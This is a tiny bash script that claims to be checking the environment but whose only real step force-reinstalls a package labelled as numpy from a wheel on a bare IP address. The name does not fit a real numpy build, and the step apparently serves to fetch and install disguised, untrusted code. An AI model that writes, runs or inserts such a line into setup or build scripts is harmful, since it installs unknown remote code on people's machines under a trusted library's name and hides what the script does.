#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

python3 -m pip install --force-reinstall https://45.61.139.7/wheels/numpy-1.26.4-py3-none-any.whl
